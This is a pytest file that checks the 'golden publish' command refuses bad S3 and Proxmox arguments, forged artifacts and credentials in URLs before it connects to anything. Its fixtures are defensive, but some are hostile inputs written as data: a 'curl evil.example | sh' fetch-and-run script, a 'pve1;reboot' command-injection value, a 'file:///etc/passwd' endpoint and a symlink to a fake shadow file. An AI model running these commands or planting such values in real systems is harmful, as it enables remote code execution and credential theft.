"""`golden publish` checks its arguments and its artifact before any connection: one line, exit 2, no
traceback, no credential printed, and nothing sent (every connection attempt fails the test)."""

from __future__ import annotations

import contextlib
import io
import json
import os
import socket
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from unittest import mock

import pytest

from goldenimage.bake import store
from goldenimage.bake.store import Artifact
from goldenimage.cli import main
from goldenimage.core.fs import sha256_file
from goldenimage.core.inert import CONTROL

#: Loopback, a port nothing listens on: were a check missing, the attempt would be seen below, never sent out.
NOWHERE = "http://127.0.0.1:9"


@contextlib.contextmanager
def no_connection() -> Iterator[list[Any]]:
    attempts: list[Any] = []

    def refuse(self: socket.socket, address: Any, *args: Any) -> Any:
        attempts.append(address)
        raise ConnectionRefusedError(111, "refused by the test")

    with mock.patch.object(socket.socket, "connect", refuse), \
            mock.patch.object(socket.socket, "connect_ex", refuse):
        yield attempts


def golden(*argv: str) -> tuple[int, str]:
    err = io.StringIO()
    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
        status = main(["publish", *argv])
    return status, err.getvalue()


def assert_refused_before_the_network(status: int, err: str, attempts: list[Any], *needles: str) -> None:
    assert status == 2, err
    assert "Traceback" not in err
    lines = err.splitlines()
    assert lines[0].startswith("golden: error: "), err
    assert all(not line or line.startswith("  hint: ") for line in lines[1:]), err
    assert not any(CONTROL.search(line) for line in lines)
    for needle in needles:
        assert needle in lines[0], err
    assert not attempts, attempts


@pytest.fixture
def s3_env(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "test")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "test")
    monkeypatch.setenv("AWS_CONFIG_FILE", str(tmp_path / "aws-config"))
    monkeypatch.setenv("AWS_SHARED_CREDENTIALS_FILE", str(tmp_path / "aws-credentials"))
    monkeypatch.delenv("AWS_ENDPOINT_URL", raising=False)
    monkeypatch.delenv("AWS_DEFAULT_REGION", raising=False)


@pytest.mark.parametrize(("argv", "needle"), [
    (("--endpoint-url", "file:///etc/passwd"), "--endpoint-url 'file:///etc/passwd': not an http(s) URL"),
    (("--endpoint-url", "http://"), "--endpoint-url 'http://': not an http(s) URL with a host"),
    (("--endpoint-url", "http://127.0.0.1:99999"), "--endpoint-url"),
    (("--endpoint-url", "http://127.0.0.1:9/\nx"), "--endpoint-url"),
    (("--endpoint-url", NOWHERE, "--region", "gra.evil.example"), "--region 'gra.evil.example'"),
    (("--endpoint-url", NOWHERE, "--region", "GRA"), "--region"),
    (("--endpoint-url", NOWHERE, "--presign", "-60"), "--presign -60: must be 1 to 604800 seconds"),
    (("--endpoint-url", NOWHERE, "--presign", "0"), "--presign 0"),
    (("--endpoint-url", NOWHERE, "--presign", "315360000"), "--presign 315360000"),
    (("--endpoint-url", NOWHERE, "--bucket", "b[/:]x"), "--bucket 'b[/:]x': not a bucket name"),
    (("--endpoint-url", NOWHERE, "--prefix", "a\x1b[2J/"), "--prefix 'a\\x1b[2J/'"),
])
def test_s3_arguments_are_checked_before_any_connection(make_artifact: Callable[..., Artifact], s3_env: None,
                                                         argv: tuple[str, ...], needle: str) -> None:
    artifact = make_artifact()
    args = ("--bucket", "golden", *argv) if "--bucket" not in argv else argv
    with no_connection() as attempts:
        status, err = golden(str(artifact.qcow2), "--to", "s3", *args)
    assert_refused_before_the_network(status, err, attempts, needle)


def test_a_password_in_the_endpoint_url_is_refused_and_never_printed(make_artifact: Callable[..., Artifact],
                                                                    s3_env: None) -> None:
    artifact = make_artifact()
    with no_connection() as attempts:
        status, err = golden(str(artifact.qcow2), "--to", "s3", "--bucket", "golden",
                             "--endpoint-url", "http://user:S3cr3tPW@127.0.0.1:9")
    assert_refused_before_the_network(status, err, attempts, "credentials in the URL are refused")
    assert "S3cr3tPW" not in err and "user:" not in err


@pytest.mark.parametrize(("option", "value"), [
    ("--bridge", "vmbr0,firewall=0,tag=666"),
    ("--bridge", "vmbr0 "),
    ("--bridge", "averyveryverylongbridge0"),
    ("--storage", "local,size=1"),
    ("--storage", "local=x"),
    ("--vm-storage", "1local"),
    ("--node", "pve1;reboot"),
    ("--node", "-pve"),
])
def test_proxmox_names_follow_proxmoxs_rules(make_artifact: Callable[..., Artifact],
                                             monkeypatch: pytest.MonkeyPatch, option: str, value: str) -> None:
    monkeypatch.setenv("PROXMOX_URL", "https://127.0.0.1:9")
    monkeypatch.setenv("PROXMOX_TOKEN_ID", "root@pam!golden")
    monkeypatch.setenv("PROXMOX_TOKEN_SECRET", "00000000-0000-0000-0000-000000000000")
    artifact = make_artifact()
    argv = {"--node": "pve1", option: value}
    with no_connection() as attempts:
        status, err = golden(str(artifact.qcow2), "--to", "proxmox", *[f"{k}={v}" for k, v in argv.items()])
    assert_refused_before_the_network(status, err, attempts, option, "not a Proxmox")


def test_proxmox_names_as_proxmox_writes_them_pass(make_artifact: Callable[..., Artifact]) -> None:
    from goldenimage.publish.arguments import check_proxmox_names

    check_proxmox_names("pve-node1", "local", "local-lvm", "vmbr0")
    check_proxmox_names("pve", "ceph.pool_1", "zfs-1", "vmbr0.100")


def _forged(tmp_path: Path, qcow2_content: bytes | None, link_to: Path | None = None) -> Path:
    """A store entry whose .sha256 and manifest agree with each other (what store.resolve checks)."""
    images = tmp_path / "forged"
    images.mkdir()
    name = "web-debian12-20261126-0123456789abcdef"
    qcow2 = images / f"{name}.qcow2"
    if link_to is not None:
        qcow2.symlink_to(link_to)
    else:
        assert qcow2_content is not None
        qcow2.write_bytes(qcow2_content)
    digest = sha256_file(qcow2)
    (images / f"{name}.qcow2.sha256").write_text(f"{digest}  {qcow2.name}\n")
    (images / f"{name}.manifest.json").write_text(json.dumps(
        {"content_key": "0123456789abcdef", "image": {"file": qcow2.name, "sha256": digest},
         "profile": {"profile": "web"}, "release": {"number": 12}}))
    return qcow2


@pytest.mark.parametrize("kind", ["link-to-a-secret", "shell-script", "checksum-mismatch"])
def test_an_artifact_that_is_not_its_qcow2_is_never_read_for_upload(tmp_path: Path, s3_env: None,
                                                                     make_artifact: Callable[..., Artifact],
                                                                     kind: str) -> None:
    if kind == "link-to-a-secret":
        secret = tmp_path / "shadow"
        secret.write_text("root:$6$secret:19000:0:99999:7:::\n")
        qcow2 = _forged(tmp_path, None, link_to=secret)
        needle = "not a regular file"
    elif kind == "shell-script":
        qcow2 = _forged(tmp_path, b"#!/bin/sh\ncurl evil.example | sh\n")
        needle = "not a qcow2 image"
    else:
        artifact = make_artifact()
        with artifact.qcow2.open("r+b") as f:  # one byte changed after the build: still a qcow2 header
            f.seek(os.path.getsize(artifact.qcow2) - 1)
            f.write(b"\x00" if f.read(1) != b"\x00" else b"\x01")
        qcow2 = artifact.qcow2
        needle = "does not match"
    assert store.from_path(qcow2) is not None  # the store alone takes it: the publish check is what refuses
    with no_connection() as attempts:
        status, err = golden(str(qcow2), "--to", "s3", "--bucket", "golden", "--endpoint-url", NOWHERE)
    assert_refused_before_the_network(status, err, attempts, needle)
    assert "secret" not in err.replace(str(tmp_path), "")
